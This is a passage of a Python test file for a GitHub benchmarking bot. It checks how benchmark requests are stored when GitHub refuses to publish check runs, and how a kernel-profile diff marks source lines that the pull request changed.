    send(services, "workflow_run", workflow_run(github, run_id))  # the real run
    assert services.store.benchmarks.get(request.correlation_id).status == "completed"


# ---------------------------------------------------------------- a check run GitHub refuses


class CheckRefused(Exception):
    """What publishing a check run raises when GitHub says no (no Checks: write, a 5xx)."""


def refuse_bench_checks(github: FakeGitHub, monkeypatch) -> None:
    publish = github.publish_check

    def refusing(repo, check, check_run_id=None):
        if check.name == "perfbot / bench":
            raise CheckRefused("403 Resource not accessible by integration")
        return publish(repo, check, check_run_id)

    monkeypatch.setattr(github, "publish_check", refusing)


def stored(services: Services) -> list[str]:
    return [r.status for r in services.store.benchmarks.for_pull(REPO, NUMBER)]


def test_a_dispatched_request_is_stored_running_though_its_check_run_is_refused(
    services, github, monkeypatch
):
    refuse_bench_checks(github, monkeypatch)
    with pytest.raises(CheckRefused):
        send(services, "issue_comment", comment("/bench"))
    [request] = services.store.benchmarks.for_pull(REPO, NUMBER)
    assert (request.status, request.run_id) == ("running", github.dispatches[0]["run_id"])
    send(services, "issue_comment", comment("/bench"))  # the delivery again: the request is running
    assert len(github.dispatches) == 1 and github.count("find_run") == 0, "nothing looks for the run again"


def test_a_refused_dispatch_is_stored_failed_though_its_check_run_is_refused(services, github, monkeypatch):
    github.workflows.clear()
    refuse_bench_checks(github, monkeypatch)
    with pytest.raises(CheckRefused):
        send(services, "issue_comment", comment("/bench"))
    assert stored(services) == ["failed"]
    assert benchmarks.active(services, REPO, NUMBER) == []


def test_a_cancelled_request_is_stored_cancelled_though_its_check_run_is_refused(
    services, github, monkeypatch
):
    send(services, "issue_comment", comment("/bench", comment_id=1))
    refuse_bench_checks(github, monkeypatch)
    with pytest.raises(CheckRefused):
        send(services, "issue_comment", comment("/bench cancel", comment_id=2))
    assert stored(services) == ["cancelled"]
    assert benchmarks.active(services, REPO, NUMBER) == []


def test_a_superseded_request_is_stored_superseded_though_its_check_run_is_refused(
    services, github, monkeypatch
):
    send(services, "issue_comment", comment("/bench"))
    refuse_bench_checks(github, monkeypatch)
    github.heads[(REPO, NUMBER)] = NEW_HEAD
    github.diffs[(REPO, NUMBER)] = diffs.COLD
    with pytest.raises(CheckRefused):
        send(services, "pull_request", pull_request("synchronize", NEW_HEAD))
    assert stored(services) == ["superseded"]
    assert benchmarks.active(services, REPO, NUMBER) == []
    [run] = github.runs.values()
    assert run["run"].conclusion == "cancelled" and github.count("cancel_run") == 1


# ---------------------------------------------------------------- kernel diff: launching lines

_SITE_DIFF = (
    "diff --git a/engine/ps.py b/engine/ps.py\n--- a/engine/ps.py\n+++ b/engine/ps.py\n"
    "@@ -3,2 +3,3 @@\n def all_reduce(x):\n+    x = pad(x)\n     return reduce(x)\n"
)


def _profiled_results() -> dict:
    from bot.core.judge.profile import LaunchSite
    from tests.core.judge.profile_data import FILL, PADDED, slow
    from tests.core.judge.profile_data import profile as make_profile

    site = LaunchSite(path="engine/ps.py", line=4, function="all_reduce", calls=32.0)
    head = make_profile(slow(PADDED))
    head = head.model_copy(
        update={
            "kernels": [
                k.model_copy(update={"sites": [site]}) if k.name == FILL[0] else k for k in head.kernels
            ]
        }
    )
    doc = document(EAGLE3)
    doc["base"]["profile"] = make_profile(PADDED).model_dump(mode="json")
    doc["head"]["profile"] = head.model_dump(mode="json")
    return doc


def _stored_markdown(services) -> str:
    request = services.store.benchmarks.for_pull(REPO, NUMBER)[0]
    [result] = services.store.benchmarks.results(request.id)
    return json.loads(result.comparison)["markdown"]


def test_the_kernel_diff_marks_a_launching_line_the_pull_request_changed(services, github):
    run_id = dispatched(services, github)
    github.diffs[(REPO, NUMBER)] = _SITE_DIFF
    upload_results(github, run_id, _profiled_results())
    send(services, "workflow_run", workflow_run(github, run_id))
    assert "`engine/ps.py:4` `all_reduce` ✏️ changed by this PR" in _stored_markdown(services)


def test_once_the_pull_request_moved_on_no_launching_line_is_marked(services, github):
    run_id = dispatched(services, github)
    github.diffs[(REPO, NUMBER)] = _SITE_DIFF
    github.heads[(REPO, NUMBER)] = NEW_HEAD  # its diff is no longer the change that was measured
    upload_results(github, run_id, _profiled_results())
    send(services, "workflow_run", workflow_run(github, run_id))
    markdown = _stored_markdown(services)
    assert "`engine/ps.py:4` `all_reduce`" in markdown and "✏️ changed" not in markdown
